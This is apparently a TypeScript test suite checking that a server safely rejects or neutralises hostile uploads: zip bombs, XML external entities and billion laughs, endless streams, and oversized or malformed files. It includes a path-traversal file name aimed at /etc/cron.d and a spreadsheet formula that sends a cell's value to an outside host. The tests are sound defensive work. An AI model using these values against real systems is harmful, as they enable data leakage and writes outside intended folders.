import path from 'node:path';
import { setTimeout as pause } from 'node:timers/promises';
import type { TrialParties } from '../../tools/trial/cast.mts';
import { MemoryWatch } from '../../tools/trial/memory-of.mts';
import { Product } from '../../tools/trial/start-product.mts';
import { HttpUser, type HttpAnswer } from '../../tools/trial/visitor.mts';
import { announceUpload, bytesIn, uploadWithoutEnd } from './endless-upload.ts';
import * as files from './hostile-files.ts';

const MB = 1024 * 1024;
const GB = 1024 * MB;

interface Version {
  state: string;
  verdict: {
    ok: boolean;
    rows: number;
    accepted: number;
    groups: { code: string; severity: string; example: { params: { reason?: string } } }[];
  } | null;
}

interface Batch {
  state: string;
  lines: number;
  totals: Record<string, string>;
  refusal: { code: string } | null;
  fileName: string;
}

describe('hostile input to the built server', () => {
  const product = new Product();
  let cast: TrialParties;
  let supplier: HttpUser;
  let buyer: HttpUser;

  beforeAll(async () => {
    cast = await product.start();
    supplier = await HttpUser.signIn(product.address, cast, cast.supplier);
    buyer = await HttpUser.signIn(product.address, cast, cast.buyer);
  }, 180_000);

  afterEach(async () => {
    const { status } = await supplier.get('/health');
    expect(status).toBe(200);
  });

  afterAll(() => product.stop(), 60_000);

  const blob = (content: string | Uint8Array) =>
    new Blob([typeof content === 'string' ? content : Buffer.from(content)]);

  async function report(name: string, content: string | Uint8Array): Promise<Version> {
    const { status, body } = await supplier.upload<{ id: string }>(
      `/obligations/${cast.obligations['2026-03']}/versions`,
      name,
      blob(content),
    );
    expect([status, body]).toEqual([202, { id: expect.any(String) }]);
    return supplier.until<Version>(`/report-versions/${body.id}`);
  }

  async function batch(name: string, content: string | Uint8Array): Promise<Batch> {
    const { status, body } = await buyer.upload<{ id: string }>('/spend/batches', name, blob(content));
    expect([status, body]).toEqual([201, expect.objectContaining({ id: expect.any(String) })]);
    return buyer.until<Batch>(`/spend/batches/${body.id}`);
  }

  const declaration = (content: string | Uint8Array): Promise<HttpAnswer> =>
    supplier.upload('/declarations', 'footprint.json', blob(content));
  const blocking = ({ verdict }: Version) =>
    verdict?.groups
      .filter(({ severity }) => severity === 'blocksFile')
      .map(({ code, example }) => example.params.reason ?? code);

  /** Folder of pending uploads. Rejected files are removed shortly after the response. */
  const spool = () => path.join(product.folder, 'spool');
  async function settled<T>(look: () => T, wanted: T): Promise<void> {
    for (let tries = 0; tries < 50 && look() !== wanted; tries += 1) await pause(100);
    expect(look()).toBe(wanted);
  }

  test.each([
    ['an empty file', 'tom.csv', () => '', 'file-empty'],
    ['a picture named as a workbook', 'rapport.xlsx', () => files.png, 'not-a-table'],
    ['a workbook with a password', 'rapport.xlsx', files.protectedWorkbook, 'password-protected'],
    ['a zip bomb', 'rapport.xlsx', files.workbookBomb, 'zip-bomb'],
    ['a table of more than 500 columns', 'rapport.csv', () => files.wideReport(600), 'too-many-columns'],
    ['a cell of 40 kB', 'rapport.csv', () => files.reportText('x'.repeat(40_000)), 'cell-too-long'],
  ])('%s is a finding of the report', async (_what, name, content, code) => {
    const version = await report(name, content());
    expect(version.verdict).toMatchObject({ ok: false, accepted: 0 });
    expect(blocking(version)).toEqual([code]);
  });

  test.each([
    ['an empty file', 'tom.csv', () => '', 'file-empty'],
    ['a picture', 'hovedbok.xlsx', () => files.png, 'not-a-table'],
    ['a workbook with a password', 'hovedbok.xlsx', files.protectedWorkbook, 'password-protected'],
    ['a zip bomb', 'fakturaer.zip', files.archiveBomb, 'zip-bomb'],
    ['an external entity', 'faktura.xml', () => files.invoice('&secret;', files.externalEntity), 'xml-doctype'],
    ['a billion laughs', 'faktura.xml', () => files.invoice('1', files.billionLaughs, '&l10;'), 'xml-doctype'],
  ])('%s rejects the batch', async (_what, name, content, code) => {
    expect(await batch(name, content())).toMatchObject({ state: 'refused', refusal: { code } });
  });

  test('Windows-1252 with decimal commas is read', async () => {
    const version = await report('rapport.csv', files.windows1252(files.reportText()));
    expect(version.verdict).toMatchObject({ rows: 2, accepted: 2 });
    expect(blocking(version)).toEqual([]);
  });

  test('a formula stays text and leaves the product harmless', async () => {
    const bait = `=HYPERLINK("http://example.com?x="&A1;"se")`;
    const ledger = `Bilagsnummer;Bilagsdato;Art;Organisasjonsnummer;Leverandørnavn;Beløp\n1;03.03.2026;1150;311047116;"${bait.replaceAll('"', '""')}";100,00\n`;
    expect(await batch('hovedbok.csv', ledger)).toMatchObject({ state: 'posted', lines: 1, totals: { NOK: '100.00' } });
  });

  test('a file name with a path is reduced to its last part', async () => {
    const posted = await batch('../../../etc/cron.d/faktura.xml', files.invoice('climbing'));
    expect(posted).toMatchObject({ state: 'posted', fileName: 'faktura.xml' });
  });

  test.each([
    ['nested a hundred thousand deep', () => files.deepJson(100_000)],
    ['forty megabytes of nothing', () => files.longJson(40 * MB)],
    ['cut off', () => '[{"id":"'],
    ['in an archive that is a bomb', files.archiveBomb],
    [
      'with entities of their own',
      () =>
        '<?xml version="1.0"?><!DOCTYPE p [<!ENTITY a "b">]><processDataSet xmlns="http://lca.jrc.it/ILCD/Process">&a;</processDataSet>',
    ],
    [
      'nested without end in XML',
      () => `<processDataSet xmlns="http://lca.jrc.it/ILCD/Process">${'<a>'.repeat(1_000_000)}`,
    ],
  ])(
    'declarations %s are rejected with a code',
    async (_what, content: () => string | Uint8Array | Promise<Uint8Array>) => {
      const { status, body } = await declaration(await content());
      expect([status, body['code']]).toEqual([422, 'declaration-unreadable']);
    },
  );

  test('an endless upload is rejected while streaming; memory and disk stay bounded', async () => {
    await settled(() => bytesIn(spool()), 0);
    const watch = new MemoryWatch(() => ({ serve: [product.pidOf('serve')] }));
    const door = `${product.address}/api/v1/obligations/${cast.obligations['2026-03']}/versions`;
    const refusal = await uploadWithoutEnd(door, supplier.headers, 2048 * MB);
    watch.stop();
    expect(refusal).toMatchObject({
      status: 413,
      body: { code: 'file-too-large', status: 413, type: 'urn:tallgrunn:problem:file-too-large' },
    });
    expect(refusal.sentBytes).toBeLessThan(512 * MB);
    expect(watch.most['serve']).toBeLessThan(700);
    await settled(() => bytesIn(spool()), 0);
    process.stdout.write(
      `${JSON.stringify({ endlessUpload: { sentMB: refusal.sentBytes / MB, serveMB: watch.most['serve'] } })}\n`,
    );
  }, 120_000);

  test('spend above 2 GB is rejected while streaming; the spooled file never exceeds the limit', async () => {
    await settled(() => bytesIn(spool()), 0);
    const watch = new MemoryWatch(() => ({ serve: [product.pidOf('serve')] }));
    const began = performance.now();
    const refusal = await uploadWithoutEnd(`${product.address}/api/v1/spend/batches`, buyer.headers, 3 * GB);
    const seconds = Math.round((performance.now() - began) / 100) / 10;
    watch.stop();
    expect(refusal).toMatchObject({
      status: 413,
      body: { code: 'file-too-large', params: { sizeBytesMax: 2 * GB, name: 'rapport.csv' } },
    });
    expect(refusal.sentBytes).toBeLessThan(2 * GB + 64 * MB);
    const half = Math.floor(watch.course.length / 2);
    const most = (looks: Record<string, number>[]) => Math.max(0, ...looks.map((look) => look['serve'] ?? 0));
    expect(most(watch.course.slice(half))).toBeLessThan(most(watch.course.slice(0, half)) + 150);
    expect(watch.most['serve']).toBeLessThan(700);
    await settled(() => bytesIn(spool()), 0);
    process.stdout.write(
      `${JSON.stringify({ spendBeyondLimit: { sentMB: refusal.sentBytes / MB, seconds, serveMB: watch.most['serve'] } })}\n`,
    );
  }, 180_000);

  test.each([
    ['spend', () => '/spend/batches', () => buyer, 2 * GB],
    ['a report', () => `/obligations/${cast.obligations['2026-03']}/versions`, () => supplier, 256 * MB],
  ])(
    '%s with an announced size above the limit is rejected before it is sent',
    async (_what, door, who, sizeBytesMax) => {
      const refusal = await announceUpload(`${product.address}/api/v1${door()}`, who().headers, sizeBytesMax + MB);
      expect(refusal).toMatchObject({ status: 413, body: { code: 'file-too-large', params: { sizeBytesMax } } });
      // Jobs of the tests before may still have a few bytes there.
      await settled(() => bytesIn(spool()), 0);
    },
  );

  test('a file with invalid fields is not stored', async () => {
    const { status } = await buyer.upload('/spend/batches', 'faktura.xml', blob(files.invoice('wrong fields')), {
      buyerId: 'nobody',
    });
    expect(status).toBe(400);
    await settled(() => bytesIn(spool()), 0);
  });

  test('an anonymous upload is rejected at once and then cut off', async () => {
    const refusal = await uploadWithoutEnd(`${product.address}/api/v1/spend/batches`, {}, 2048 * MB);
    expect(refusal.status).toBe(403);
  }, 60_000);
});
